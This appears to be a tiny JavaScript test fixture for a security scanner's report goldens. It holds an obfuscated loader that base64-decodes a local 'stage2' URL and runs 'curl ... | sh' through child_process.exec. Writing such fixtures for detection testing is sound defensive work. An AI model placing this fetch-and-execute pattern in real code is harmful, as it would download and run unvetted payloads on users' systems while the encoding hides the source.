// Test data for report goldens: read by the scanner, never run.
const cp = require("child_process");
const u = Buffer.from("aHR0cDovLzEyNy4wLjAuMTo4MDgwL3N0YWdlMg==", "base64").toString();
cp.exec("curl -s " + u + " | sh");
